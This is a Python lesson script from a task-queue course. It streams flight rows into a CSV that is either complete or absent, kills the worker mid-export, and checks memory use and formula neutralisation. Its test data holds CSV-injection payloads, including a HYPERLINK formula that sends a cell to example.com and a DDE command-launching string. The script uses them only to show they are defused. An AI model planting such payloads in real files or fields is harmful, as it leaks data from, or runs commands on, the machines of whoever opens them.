"""Export data: stream rows into a CSV file that is whole or absent, and harmless when opened.

Three things go wrong with downloads.  Somebody reads all rows into a list first, and with ten times
the rows the worker runs out of memory.  The worker dies in the middle, and half a file lies there
that looks like a whole one.  And a text that a customer typed, such as =HYPERLINK(...), becomes a
formula in the spreadsheet of whoever opens the file.

`export_data` reads 500 rows at a time.  It writes into a temporary file beside the target, which
takes the target's name in one step when it is complete.  And it puts an apostrophe in front of each
cell that a spreadsheet would run.

The lesson puts 110,000 flights into the database.  Four of them have a remark that is a formula.
Then it exports 10,000 flights, and 100,000.  At last it kills the process in the middle of an
export, and looks what lies there.

The task is in tasks/realworld_tasks/exports.py.

    ./lab run 53        # about 10 s

Watch: http://localhost:5555/tasks shows four exports; one of them was lost with its process.

You should see:

    $ ./start_worker.sh -n lesson53@%h --queues=lesson53 --concurrency=1
    file                       rows    size    the process held at most
    exports/lesson53-few.csv   10000   0.4 MB  ... MB
    exports/lesson53-many.csv  100000  4.4 MB  ... MB
    true: 10 times the rows took at most 5 MB more
    a remark in the database                         the same in the file
    =HYPERLINK("http://example.com/?"&A1,"details")  '=HYPERLINK("http://example.com/?"&A1,"details")
    +1+cmd|' /C calc'!A0                             '+1+cmd|' /C calc'!A0
    -2+3+SUM(A1:A9)                                  '-2+3+SUM(A1:A9)
    @SUM(1,1)                                        '@SUM(1,1)
    true: each of 100000 flights is in the file once, and no cell begins with =, +, - or @
    killed in the middle: FAILURE WorkerLostError
    true: after the kill there was no file of that name, and not half of one
    true: the next export wrote the same file as the first one, byte by byte

What the kill left is a part of the file under another name, which nobody takes for the export.

Try next.  Guess first:
  1. In tasks/realworld_tasks/exports.py, put list(...) around flight_table.stream(...).  Which
     sentence does not come true any more?
  2. In work/flights/exports.py, let `harmless` return the cell as it is.  And which one now?
  3. Set the 100_000 in ROWS to 300_000 (about 25 s).  How much more memory does that take?
"""

from lab_home import LAB_FILES
from labkit.lesson import claim, run_lesson, table
from labkit.lesson.endings import how_it_ended
from labkit.lesson.half_files import kill_in_the_middle
from labkit.lesson.memory import PoolMemory
from labkit.own.flights import flights_in, formulas_in, own_flights, put_flights
from labkit.own.queues import own_queues
from labkit.own.workers import own_worker
from tasks.realworld_tasks import export_data

NAME = "lesson53"  # of the worker and its queue
ROWS = {"lesson53-few": 10_000, "lesson53-many": 100_000}  # of each source
FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1,"details")',  # sends a cell to whoever owns the address
    "+1+cmd|' /C calc'!A0",  # starts a program, in old spreadsheets
    "-2+3+SUM(A1:A9)",
    "@SUM(1,1)",
]
MORE_MB = 5  # 10 times the rows as a list took 77 MB more
BEGUN_BYTES = 100_000  # of 4,400,000: then the export is in the middle
TIMEOUT_S = 120  # an export takes 2 s, and a death is noticed within 5 s; the rest is room


def main() -> None:
    with (
        own_flights(*ROWS) as database,
        own_queues(NAME),
        own_worker(NAME, [NAME], "--concurrency=1") as worker,
    ):
        # One process, so that its memory tells of each export, the small one first.
        put_flights(database, ROWS, remarks=FORMULAS)
        memory = PoolMemory(worker)

        # The result of the task says where the file is, and how large: no row goes through Redis.
        exports = [export_data.s(source).set(queue=NAME) for source in ROWS]
        rows, held_mb = [], []
        for export in exports:
            done = export.delay().get(timeout=TIMEOUT_S)
            held_mb.append(memory.look())
            size = f"{done['size_bytes'] / 1e6:.1f} MB"
            rows.append((done["file"], done["rows"], size, f"{held_mb[-1]:.0f} MB"))
        file = LAB_FILES / done["file"]
        flights, whole = flights_in(file), file.read_bytes()

        # kill -9 for the process that writes, as when memory runs out.  Celery reports that it is
        # lost.  That no half file lies there is the work of the task: it renames what is complete.
        process = memory.processes[0]
        killed, half = kill_in_the_middle(process, exports[-1].delay, file, BEGUN_BYTES)
        half.unlink()  # lesson 55 has a task that removes what was left like this
        gone = not file.exists()
        exports[-1].delay().get(timeout=TIMEOUT_S)

    # The rows stream through the process, a few hundred at a time, however many there are.
    table("file", "rows", "size", "the process held at most", rows=rows)
    claim(
        held_mb[1] - held_mb[0] <= MORE_MB,
        f"{rows[1][1] // rows[0][1]} times the rows took at most {MORE_MB} MB more",
    )

    # An apostrophe tells a spreadsheet: this is text, do not run it.
    table(
        *("a remark in the database", "the same in the file"),
        rows=[(text, one["remark"]) for text, one in zip(FORMULAS, flights, strict=False)],
    )
    keys = {(one["flight"], one["day"]) for one in flights}
    claim(
        len(keys) == len(flights) and not formulas_in(flights),
        f"each of {len(flights)} flights is in the file once, and no cell begins with =, +, - or @",
    )

    # Whoever downloads finds nothing, or all of it.  And the export may be asked for once more.
    print(f"killed in the middle: {how_it_ended(killed)}")
    claim(gone, "after the kill there was no file of that name, and not half of one")
    claim(
        file.read_bytes() == whole,
        "the next export wrote the same file as the first one, byte by byte",
    )


if __name__ == "__main__":
    run_lesson(main, queues=[])
